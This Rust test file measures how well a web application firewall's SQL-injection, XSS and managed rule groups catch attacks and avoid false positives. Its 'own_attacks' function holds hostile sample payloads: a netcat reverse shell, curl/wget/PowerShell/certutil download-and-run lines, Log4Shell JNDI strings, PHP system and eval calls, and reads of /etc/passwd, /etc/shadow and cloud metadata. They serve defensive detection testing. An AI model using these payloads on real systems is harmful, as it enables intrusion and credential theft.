//! Detection and false-positive rates on corpora nobody on this project wrote:
//! libinjection's sample data and the OWASP CRS 942 (SQLi) and 941 (XSS)
//! regression tests, replayed as requests through a web ACL.
//!
//! The corpora live in `shared/corpora` beside the checkout. Without them the
//! tests print one line and pass, except under `CI`, where they fail.

#![allow(clippy::unwrap_used)]

use std::path::PathBuf;

use http::Request;
use portcullis_waf::{WafAction, WafLayer};
use serde_json::json;

fn corpora() -> Option<PathBuf> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora");
    if dir.is_dir() {
        return Some(dir);
    }
    if std::env::var_os("CI").is_some() {
        panic!(
            "shared/corpora is missing beside the checkout ({})",
            dir.display()
        );
    }
    println!(
        "corpus tests skipped: put the corpora in {} to run them",
        dir.display()
    );
    None
}

fn vc() -> serde_json::Value {
    json!({"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "m"})
}

/// An ACL shaped like AWS's managed SQLi / XSS rules: the statement on the
/// query arguments, the body, the cookies and the path, after URL and HTML
/// entity decoding.
fn detector_acl(statement: &str, sensitivity: Option<&str>) -> WafLayer {
    let fields = [
        json!({"AllQueryArguments": {}}),
        json!({"Body": {"OversizeHandling": "CONTINUE"}}),
        json!({"Cookies": {"MatchPattern": {"All": {}}, "MatchScope": "ALL", "OversizeHandling": "CONTINUE"}}),
        json!({"UriPath": {}}),
    ];
    let rules: Vec<_> = fields
        .iter()
        .enumerate()
        .map(|(i, field)| {
            let mut inner = json!({"FieldToMatch": field, "TextTransformations": [
                {"Priority": 0, "Type": "URL_DECODE_UNI"}, {"Priority": 1, "Type": "HTML_ENTITY_DECODE"}]});
            if let Some(level) = sensitivity {
                inner["SensitivityLevel"] = json!(level);
            }
            json!({"Name": format!("r{i}"), "Priority": i, "Action": {"Block": {}}, "VisibilityConfig": vc(),
                   "Statement": {statement: inner}})
        })
        .collect();
    let acl = json!({"Name": "detect", "DefaultAction": {"Allow": {}}, "Rules": rules});
    WafLayer::from_json(&acl.to_string()).unwrap()
}

fn lines(dir: &std::path::Path, prefix: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut files: Vec<_> = std::fs::read_dir(dir.join("libinjection"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| {
            let name = p.file_name().unwrap().to_string_lossy();
            name.starts_with(prefix) && name.ends_with(".txt")
        })
        .collect();
    files.sort();
    for file in files {
        let text = String::from_utf8_lossy(&std::fs::read(file).unwrap()).into_owned();
        out.extend(
            text.lines()
                .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
                .map(str::to_owned),
        );
    }
    out
}

/// Sends each sample (URL-encoded, as libinjection stores it) as a form body.
fn detected(layer: &WafLayer, samples: &[String]) -> usize {
    samples
        .iter()
        .filter(|s| {
            let request = Request::post("/").body(s.as_bytes().to_vec()).unwrap();
            layer.evaluate(&request).action() == WafAction::Block
        })
        .count()
}

fn pct(n: usize, d: usize) -> f64 {
    100.0 * n as f64 / d.max(1) as f64
}

#[test]
fn libinjection_samples() {
    let Some(dir) = corpora() else { return };
    let sqli = lines(&dir, "sqli-");
    let xss = lines(&dir, "xss-");
    let benign = lines(&dir, "false_positives");
    assert!(sqli.len() > 15_000 && xss.len() > 1_000 && benign.len() > 400);

    let low = detector_acl("SqliMatchStatement", None);
    let high = detector_acl("SqliMatchStatement", Some("HIGH"));
    let xss_acl = detector_acl("XssMatchStatement", None);
    let sqli_low = detected(&low, &sqli);
    let sqli_high = detected(&high, &sqli);
    let fp_low = detected(&low, &benign);
    let fp_high = detected(&high, &benign);
    let xss_hit = detected(&xss_acl, &xss);
    let fp_xss = detected(&xss_acl, &benign);
    println!(
        "libinjection sqli-*: LOW {sqli_low}/{} ({:.2}%), HIGH {sqli_high}/{} ({:.2}%)",
        sqli.len(),
        pct(sqli_low, sqli.len()),
        sqli.len(),
        pct(sqli_high, sqli.len())
    );
    println!(
        "libinjection xss-*: {xss_hit}/{} ({:.2}%)",
        xss.len(),
        pct(xss_hit, xss.len())
    );
    println!(
        "false_positives.txt: SQLi LOW {fp_low}/{n} ({:.2}%), SQLi HIGH {fp_high}/{n} ({:.2}%), XSS {fp_xss}/{n} ({:.2}%)",
        pct(fp_low, benign.len()),
        pct(fp_high, benign.len()),
        pct(fp_xss, benign.len()),
        n = benign.len()
    );
    assert!(pct(sqli_low, sqli.len()) >= 95.0, "LOW detects too little");
    assert!(pct(fp_low, benign.len()) <= 2.0, "LOW flags too much");
    assert!(
        sqli_high >= sqli_low && fp_high >= fp_low,
        "HIGH is at least as eager as LOW"
    );
    assert!(pct(xss_hit, xss.len()) >= 90.0);
    assert!(pct(fp_xss, benign.len()) <= 2.0);
}

#[test]
fn xss_prefilter_changes_no_verdict() {
    let Some(dir) = corpora() else { return };
    let mut all = lines(&dir, "xss-");
    all.extend(lines(&dir, "false_positives"));
    all.extend(lines(&dir, "sqli-misc"));
    for sample in all {
        let decoded: Vec<u8> =
            percent_encoding::percent_decode_str(&sample.replace('+', " ")).collect();
        // The prefilter hides none of libinjection's detections (the second
        // detector may add its own).
        if libinjectionrs::detect_xss(&decoded).is_injection() {
            assert!(portcullis_waf::detect::is_xss(&decoded), "{sample}");
        }
    }
}

/// One stage of a go-ftw test: the request, and whether the rule must fire.
#[derive(Debug, Default)]
struct FtwCase {
    method: String,
    uri: String,
    headers: Vec<(String, String)>,
    data: Option<String>,
    attack: Option<bool>,
}

/// Reads go-ftw YAML: just enough YAML for these files (plain, quoted and
/// block scalars, one header map per stage).
fn parse_ftw(text: &str) -> Vec<FtwCase> {
    let mut cases = Vec::new();
    let mut current: Option<FtwCase> = None;
    let lines: Vec<&str> = text.lines().collect();
    let mut i = 0;
    let mut in_headers: Option<usize> = None;
    while i < lines.len() {
        let line = lines[i];
        let indent = line.len() - line.trim_start().len();
        let trimmed = line.trim();
        i += 1;
        if let Some(h) = in_headers {
            if indent > h && !trimmed.is_empty() {
                if let (Some(case), Some((k, v))) = (current.as_mut(), trimmed.split_once(':')) {
                    case.headers.push((k.trim().to_owned(), scalar(v.trim())));
                }
                continue;
            }
            in_headers = None;
        }
        let Some((key, value)) = trimmed.trim_start_matches("- ").split_once(':') else {
            continue;
        };
        let value = value.trim();
        match key.trim() {
            "input" => {
                if let Some(case) = current.take() {
                    cases.push(case);
                }
                current = Some(FtwCase {
                    method: "GET".to_owned(),
                    uri: "/".to_owned(),
                    ..FtwCase::default()
                });
            }
            "method" => current
                .as_mut()
                .into_iter()
                .for_each(|c| c.method = scalar(value)),
            "uri" => current
                .as_mut()
                .into_iter()
                .for_each(|c| c.uri = scalar(value)),
            "headers" => in_headers = Some(indent),
            "data" => {
                let data = if value.starts_with('|') || value.starts_with('>') {
                    let mut block = Vec::new();
                    while i < lines.len() {
                        let l = lines[i];
                        let ind = l.len() - l.trim_start().len();
                        if !l.trim().is_empty() && ind <= indent {
                            break;
                        }
                        block.push(l.trim());
                        i += 1;
                    }
                    let sep = if value.starts_with('>') { " " } else { "\n" };
                    let mut joined = block.join(sep);
                    if !value.ends_with('-') {
                        joined.push('\n');
                    }
                    joined
                } else {
                    scalar(value)
                };
                current
                    .as_mut()
                    .into_iter()
                    .for_each(|c| c.data = Some(data.clone()));
            }
            "expect_ids" => current
                .as_mut()
                .into_iter()
                .for_each(|c| c.attack = Some(true)),
            "no_expect_ids" => current.as_mut().into_iter().for_each(|c| {
                c.attack.get_or_insert(false);
            }),
            _ => {}
        }
    }
    cases.extend(current);
    cases
}

fn scalar(value: &str) -> String {
    if let Some(inner) = value.strip_prefix('"').and_then(|v| v.strip_suffix('"')) {
        serde_json::from_str::<String>(&format!("\"{inner}\"")).unwrap_or_else(|_| inner.to_owned())
    } else if let Some(inner) = value.strip_prefix('\'').and_then(|v| v.strip_suffix('\'')) {
        inner.replace("''", "'")
    } else {
        value.to_owned()
    }
}

struct Replay {
    attacks: usize,
    caught: usize,
    negatives: usize,
    quiet: usize,
    unsendable: usize,
    /// Attacks and catches of the CRS rule that is libinjection itself
    /// (942100 for SQLi, 941100 for XSS).
    libinjection_rule: (usize, usize),
}

fn replay(
    dir: &std::path::Path,
    folder: &str,
    layer: &WafLayer,
    libinjection_rule: &str,
) -> Replay {
    let (mut attacks, mut caught, mut negatives, mut quiet, mut unsendable) = (0, 0, 0, 0, 0);
    let mut own = (0, 0);
    let mut files: Vec<_> = std::fs::read_dir(dir.join("crs-regression").join(folder))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    for file in files {
        let is_own = file
            .file_name()
            .unwrap()
            .to_string_lossy()
            .starts_with(libinjection_rule);
        for case in parse_ftw(&std::fs::read_to_string(&file).unwrap()) {
            let Some(attack) = case.attack else { continue };
            let mut builder = Request::builder()
                .method(case.method.as_str())
                .uri(case.uri.as_str());
            for (k, v) in &case.headers {
                builder = builder.header(k.as_str(), v.as_str());
            }
            let Ok(request) = builder.body(case.data.clone().unwrap_or_default().into_bytes())
            else {
                unsendable += 1;
                continue;
            };
            let blocked = layer.evaluate(&request).action() == WafAction::Block;
            if attack {
                attacks += 1;
                caught += usize::from(blocked);
                if is_own {
                    own.0 += 1;
                    own.1 += usize::from(blocked);
                }
            } else {
                negatives += 1;
                quiet += usize::from(!blocked);
            }
        }
    }
    Replay {
        attacks,
        caught,
        negatives,
        quiet,
        unsendable,
        libinjection_rule: own,
    }
}

#[test]
fn crs_regression_requests() {
    let Some(dir) = corpora() else { return };
    for (folder, statement, own_rule) in [
        (
            "REQUEST-942-APPLICATION-ATTACK-SQLI",
            "SqliMatchStatement",
            "942100",
        ),
        (
            "REQUEST-941-APPLICATION-ATTACK-XSS",
            "XssMatchStatement",
            "941100",
        ),
    ] {
        for level in [None, Some("HIGH")] {
            if statement == "XssMatchStatement" && level.is_some() {
                continue;
            }
            let layer = detector_acl(statement, level);
            let Replay {
                attacks,
                caught,
                negatives,
                quiet,
                unsendable,
                libinjection_rule: (own, own_caught),
            } = replay(&dir, folder, &layer, own_rule);
            println!(
                "CRS {folder} {statement} {}: attacks caught {caught}/{attacks} ({:.1}%); of rule {own_rule} (CRS's own libinjection rule) {own_caught}/{own} ({:.1}%); no_expect cases not flagged {quiet}/{negatives} ({:.1}%); not valid HTTP for the http crate {unsendable}",
                level.unwrap_or("LOW"),
                pct(caught, attacks),
                pct(own_caught, own),
                pct(quiet, negatives)
            );
            assert!(attacks > 100, "{folder}: parsed too few cases");
            assert!(caught > 0 && own > 0);
        }
    }
}

#[test]
#[ignore = "prints the CRS attacks the detector misses, for tuning"]
fn crs_misses() {
    let Some(dir) = corpora() else { return };
    let layer = detector_acl("SqliMatchStatement", None);
    let mut files: Vec<_> =
        std::fs::read_dir(dir.join("crs-regression/REQUEST-942-APPLICATION-ATTACK-SQLI"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
    files.sort();
    for file in files {
        for case in parse_ftw(&std::fs::read_to_string(&file).unwrap()) {
            if case.attack != Some(true) {
                continue;
            }
            let mut builder = Request::builder()
                .method(case.method.as_str())
                .uri(case.uri.as_str());
            for (k, v) in &case.headers {
                builder = builder.header(k.as_str(), v.as_str());
            }
            let Ok(request) = builder.body(case.data.clone().unwrap_or_default().into_bytes())
            else {
                continue;
            };
            if layer.evaluate(&request).action() != WafAction::Block {
                println!(
                    "{} | {} | {:?} | {:?}",
                    file.file_name().unwrap().to_string_lossy(),
                    case.uri,
                    case.data,
                    case.headers
                        .iter()
                        .filter(|(k, _)| !["Host", "User-Agent", "Accept"].contains(&k.as_str()))
                        .collect::<Vec<_>>()
                );
            }
        }
    }
}

/// An ACL of one AWS managed group (this crate's equivalent), blocking.
fn managed_acl(group: &str) -> WafLayer {
    let acl = json!({"Name": "managed", "DefaultAction": {"Allow": {}}, "Rules": [
        {"Name": group, "Priority": 0, "OverrideAction": {"None": {}}, "VisibilityConfig": vc(),
         "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": group}}}]});
    WafLayer::from_json(&acl.to_string()).unwrap()
}

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36";

fn request(method: &str, uri: &str, body: &str) -> Request<Vec<u8>> {
    Request::builder()
        .method(method)
        .uri(uri)
        .header("host", "api.example.com")
        .header("user-agent", BROWSER)
        .header("accept", "application/json")
        .body(body.as_bytes().to_vec())
        .unwrap()
}

/// Ordinary API traffic, written here: reads with query strings, searches
/// with apostrophes and punctuation, JSON and form bodies, paths with ids.
fn ordinary_requests() -> Vec<Request<Vec<u8>>> {
    let names = [
        "O'Brien",
        "D'Angelo",
        "Zoë Saldaña",
        "Jean-Luc Picard",
        "Anne-Marie d'Arcy",
        "李小龍",
        "Robert'); DROP TABLE Students;-- (xkcd fan)",
    ];
    let searches = [
        "rock 'n' roll",
        "fish & chips",
        "c++ tutorials",
        "100% cotton",
        "select a seat",
        "union station",
        "where is my order",
        "sleep mask",
        "dir sale",
        "type c cable",
        "cat toys",
        "echo dot",
        "system of a down",
        "include vat?",
        "1/2 price",
        "$5 off",
        "a<b and c>d",
        "email: jane@example.com",
        "https://example.com/page",
        "../readme",
    ];
    let mut out = Vec::new();
    for i in 0..50 {
        out.push(request(
            "GET",
            &format!("/loyalty/C-{i}/get?customer=C-{i}&fields=points"),
            "",
        ));
        out.push(request(
            "GET",
            &format!(
                "/v1/orders/{}/items?limit=20&offset={}&sort=-created_at",
                1000 + i,
                i * 20
            ),
            "",
        ));
        out.push(request(
            "DELETE",
            &format!("/v1/sessions/{:x}", 0xdead_beef_u64 + i as u64),
            "",
        ));
    }
    for s in searches {
        let q: String =
            percent_encoding::utf8_percent_encode(s, percent_encoding::NON_ALPHANUMERIC)
                .to_string();
        out.push(request("GET", &format!("/search?q={q}&page=1"), ""));
        out.push(request(
            "POST",
            "/search",
            &json!({"query": s, "filters": {"in_stock": true}}).to_string(),
        ));
    }
    for n in names {
        out.push(request("POST", "/v1/customers", &json!({"name": n, "email": "someone@example.com", "address": {"line1": "12 Baker St.", "city": "London", "postcode": "NW1 6XE"}, "notes": "Call after 5pm; use side door (blue)."}).to_string()));
        let form: String =
            percent_encoding::utf8_percent_encode(n, percent_encoding::NON_ALPHANUMERIC)
                .to_string();
        out.push(request(
            "POST",
            "/signup",
            &format!("name={form}&password=Tr0ub4dor%263&remember=on"),
        ));
    }
    out.push(request("POST", "/v1/events", &json!({"type": "page_view", "url": "https://www.example.com/products/42?ref=home", "ts": 1_717_171_717, "ua": BROWSER}).to_string()));
    out.push(request("PUT", "/v1/profile/avatar", &"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==".repeat(20)));
    out
}

/// Attack samples written here from each rule's public description, for the
/// groups the shared corpora do not cover. Each is sent where the group
/// inspects it: `q` as a query argument and as a JSON body value, a path as
/// the path.
fn own_attacks(group: &str) -> Vec<Request<Vec<u8>>> {
    let (values, paths): (&[&str], &[&str]) = match group {
        "AWSManagedRulesCommonRuleSet" => (
            &[
                "http://169.254.169.254/latest/meta-data/",
                "../../../../etc/passwd",
                "..\\..\\windows\\win.ini",
                "http://198.51.100.7/shell.txt",
                "file://192.0.2.1/share",
                "<script>alert(1)</script>",
                "<svg onload=alert(1)>",
                "backup.sql",
                "settings.ini",
                "http://2852039166/latest/user-data",
            ],
            &[
                "/a/../../../etc/passwd",
                "/logs/app.log",
                "/proxy/169.254.169.254/latest/meta-data/",
            ],
        ),
        "AWSManagedRulesKnownBadInputsRuleSet" => (
            &[
                "${jndi:ldap://example.com/a}",
                "${${lower:j}ndi:rmi://example.com/x}",
                "${${::-j}${::-n}${::-d}${::-i}:dns://example.com/}",
                "(java.lang.Runtime).getRuntime().exec(\"id\")",
                "T(java.lang.Runtime).getRuntime().exec('whoami')",
                "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
            ],
            &[
                "/WEB-INF/web.xml",
                "/app/META-INF/MANIFEST.MF",
                "/.git/config",
                "/${jndi:ldap://example.com/a}",
            ],
        ),
        "AWSManagedRulesLinuxRuleSet" => (
            &[
                "/proc/self/environ",
                "/etc/shadow",
                "/proc/version",
                "/var/log/auth.log",
                "/etc/passwd",
                "/root/.bash_history",
            ],
            &["/download/proc/self/cmdline", "/static/etc/passwd"],
        ),
        "AWSManagedRulesUnixRuleSet" => (
            &[
                "; cat /etc/passwd",
                "| id",
                "`whoami`",
                "$(uname -a)",
                "x && wget http://example.com/a.sh",
                "echo $HOME",
                "${IFS}cat${IFS}/etc/passwd",
                "; nc -e /bin/sh example.com 4444",
                "|| curl example.com | sh",
            ],
            &[],
        ),
        "AWSManagedRulesWindowsRuleSet" => (
            &[
                "||nslookup example.com",
                ";cmd /c dir",
                "& whoami",
                "| net user",
                "powershell -enc SQBFAFgA",
                "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://example.com/a')",
                "IEX(iwr http://example.com)",
                "%COMSPEC% /c ver",
                "& certutil -urlcache -f http://example.com/a.exe a.exe",
            ],
            &[],
        ),
        "AWSManagedRulesPHPRuleSet" => (
            &[
                "<?php system($_GET['c']); ?>",
                "fsockopen(\"example.com\",4444)",
                "php://filter/convert.base64-encode/resource=index.php",
                "shell_exec('id')",
                "eval(base64_decode('ZWNobyAxOw=='))",
                "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
                "$_SERVER['HTTP_HOST']",
                "phpinfo()",
                "passthru('ls')",
            ],
            &[],
        ),
        "AWSManagedRulesWordPressRuleSet" => (
            &["do-reset-wordpress"],
            &[
                "/xmlrpc.php",
                "/wp-config.php.bak",
                "/wp-admin/install.php",
                "/wp-content/debug.log",
                "/blog/xmlrpc.php",
            ],
        ),
        "AWSManagedRulesAdminProtectionRuleSet" => (
            &[],
            &[
                "/admin",
                "/admin/users",
                "/phpmyadmin/index.php",
                "/sqlmanager/",
                "/manager/html",
                "/administrator/index.php",
                "/wp-admin/",
            ],
        ),
        _ => (&[], &[]),
    };
    let mut out = Vec::new();
    for v in values {
        let q: String =
            percent_encoding::utf8_percent_encode(v, percent_encoding::NON_ALPHANUMERIC)
                .to_string();
        out.push(request("GET", &format!("/items?q={q}"), ""));
        if group != "AWSManagedRulesWordPressRuleSet" && group != "AWSManagedRulesLinuxRuleSet" {
            // Both inspect the query string and the path, not the body.
            out.push(request("POST", "/items", &json!({"q": v}).to_string()));
        }
    }
    for p in paths {
        let encoded: String = p
            .split('/')
            .map(|seg| {
                percent_encoding::utf8_percent_encode(seg, percent_encoding::NON_ALPHANUMERIC)
                    .to_string()
            })
            .collect::<Vec<_>>()
            .join("/");
        out.push(request("GET", &encoded, ""));
    }
    out
}

/// Per managed group: the detection rate on the attack samples relevant to
/// it, and the false-positive rate on benign traffic (libinjection's
/// `false_positives.txt`, as a form body and as a query string, and
/// ordinary API requests). Printed for the README; the asserts are floors.
#[test]
fn managed_groups_detection_and_false_positives() {
    let Some(dir) = corpora() else { return };
    let sqli = lines(&dir, "sqli-");
    let xss = lines(&dir, "xss-");
    let benign_lines = lines(&dir, "false_positives");
    let mut benign: Vec<Request<Vec<u8>>> = Vec::new();
    for line in &benign_lines {
        benign.push(request("POST", "/", line));
        if let Ok(r) = Request::builder()
            .uri(format!("/?q={}", line.replace(' ', "+")))
            .header("host", "api.example.com")
            .header("user-agent", BROWSER)
            .body(Vec::new())
        {
            benign.push(r);
        }
    }
    let ordinary = ordinary_requests();
    let blocks =
        |layer: &WafLayer, r: &Request<Vec<u8>>| layer.evaluate(r).action() == WafAction::Block;
    for group in portcullis_waf::managed::available() {
        let layer = managed_acl(group);
        let mut report = format!("{group}:");
        if group == "AWSManagedRulesSQLiRuleSet" {
            let hit = sqli
                .iter()
                .filter(|s| blocks(&layer, &request("POST", "/", s)))
                .count();
            report.push_str(&format!(
                " libinjection sqli-* {hit}/{} ({:.2}%);",
                sqli.len(),
                pct(hit, sqli.len())
            ));
            assert!(pct(hit, sqli.len()) >= 95.0);
            let r = replay(
                &dir,
                "REQUEST-942-APPLICATION-ATTACK-SQLI",
                &layer,
                "942100",
            );
            report.push_str(&format!(
                " CRS 942 attacks {}/{} ({:.1}%);",
                r.caught,
                r.attacks,
                pct(r.caught, r.attacks)
            ));
        }
        if group == "AWSManagedRulesCommonRuleSet" {
            let hit = xss
                .iter()
                .filter(|s| blocks(&layer, &request("POST", "/", s)))
                .count();
            report.push_str(&format!(
                " libinjection xss-* {hit}/{} ({:.2}%);",
                xss.len(),
                pct(hit, xss.len())
            ));
            assert!(pct(hit, xss.len()) >= 90.0);
            let r = replay(&dir, "REQUEST-941-APPLICATION-ATTACK-XSS", &layer, "941100");
            report.push_str(&format!(
                " CRS 941 attacks {}/{} ({:.1}%);",
                r.caught,
                r.attacks,
                pct(r.caught, r.attacks)
            ));
        }
        let own = own_attacks(group);
        if !own.is_empty() {
            let hit = own.iter().filter(|r| blocks(&layer, r)).count();
            report.push_str(&format!(
                " own samples {hit}/{} ({:.1}%);",
                own.len(),
                pct(hit, own.len())
            ));
            assert!(pct(hit, own.len()) >= 80.0, "{report}");
        }
        let fp = benign.iter().filter(|r| blocks(&layer, r)).count();
        let fp_api = ordinary.iter().filter(|r| blocks(&layer, r)).count();
        for r in ordinary.iter().filter(|r| blocks(&layer, r)) {
            println!(
                "  {group} flags an ordinary request: {} {} {}",
                r.method(),
                r.uri(),
                String::from_utf8_lossy(r.body())
            );
        }
        report.push_str(&format!(
            " false positives: false_positives.txt {fp}/{} ({:.2}%), ordinary API requests {fp_api}/{} ({:.2}%)",
            benign.len(),
            pct(fp, benign.len()),
            ordinary.len(),
            pct(fp_api, ordinary.len())
        ));
        println!("{report}");
        assert!(pct(fp_api, ordinary.len()) <= 1.0, "{report}");
        assert!(pct(fp, benign.len()) <= 5.0, "{report}");
    }
}

/// The SQLi statement at HIGH (libinjection plus its extra pattern) and the
/// XSS statement (libinjection plus the second detector) on the ordinary API
/// requests: only the two requests carrying `Robert'); DROP TABLE
/// Students;--` may be flagged as SQLi, and none as XSS.
#[test]
fn detectors_on_ordinary_requests() {
    let requests = ordinary_requests();
    assert!(requests.len() > 200);
    let high = detector_acl("SqliMatchStatement", Some("HIGH"));
    let xss = detector_acl("XssMatchStatement", None);
    let mut sqli_flagged = Vec::new();
    let mut xss_flagged = Vec::new();
    for request in &requests {
        let text = format!(
            "{} {}",
            request.uri(),
            String::from_utf8_lossy(request.body())
        );
        if high.evaluate(request).action() == WafAction::Block {
            sqli_flagged.push(text.clone());
        }
        if xss.evaluate(request).action() == WafAction::Block {
            xss_flagged.push(text);
        }
    }
    println!(
        "ordinary API requests: SQLi HIGH {}/{}, XSS {}/{}",
        sqli_flagged.len(),
        requests.len(),
        xss_flagged.len(),
        requests.len()
    );
    assert!(
        sqli_flagged.iter().all(|r| r.contains("DROP")),
        "{sqli_flagged:#?}"
    );
    assert!(xss_flagged.is_empty(), "{xss_flagged:#?}");
}
